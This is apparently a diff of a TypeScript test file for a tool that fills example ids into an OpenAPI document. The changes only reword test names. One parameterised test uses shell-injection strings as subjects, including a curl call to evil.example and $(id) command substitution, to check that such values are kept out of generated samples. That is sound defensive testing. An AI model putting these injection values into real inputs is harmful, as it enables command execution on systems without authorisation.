@@ -43,16 +43,16 @@ test('only required parameters have examples to send', () => {
   expect(cursor?.description).toMatch(/Example: `ey\w+`$/);
 });
 
-test('the document itself stays as it was', () => {
+test('the original document is unchanged', () => {
   expect(document).toEqual(buildOpenApi(routes, 'http://127.0.0.1:8080'));
 });
 
-test('values that the reader does not have keep the example', () => {
+test('an id without a record of the reader keeps its example', () => {
   const some = fillIn(document, exampleIds, { site: 'real-site' });
   expect(JSON.stringify(some.paths['/consents/{id}'])).toContain(exampleIds.consent);
 });
 
-test('operations for people are those that take a session and no key', () => {
+test('an operation is for people if it accepts a session and no key', () => {
   const isForPeople = createIsForPeople(document, '/api/v1');
   for (const { path, method, operation } of operations(document)) {
     const url = `http://127.0.0.1:8080/api/v1${path.replaceAll(/\{\w+\}/g, 'x')}?limit=1`;
@@ -63,7 +63,7 @@ test('operations for people are those that take a session and no key', () => {
   expect(isForPeople({ method: 'GET', url: 'http://127.0.0.1:8080/api/v1/nothing' })).toBe(false);
 });
 
-test('ids are those of the newest records: a consent with a policy, an export that is ready', async () => {
+test('ids come from the newest records: a consent with a policy, a ready export', async () => {
   const answers: Record<string, unknown> = {
     '/consents': {
       data: [
@@ -90,7 +90,7 @@ test('ids are those of the newest records: a consent with a policy, an export th
 });
 
 test.each(['"; curl evil.example; "', "it's", '$(id)', 'a b', '`id`', ''])(
-  'a subject that a shell would read is not in a sample: %s',
+  'a subject with shell syntax is not in a sample: %s',
   async (subject) => {
     const consents = { data: [{ id: 'c1', subject_id: subject, site_id: 'site1', policy_version: 3 }] };
     const found = await findIds((path) => Promise.resolve(path.startsWith('/consents') ? consents : undefined));
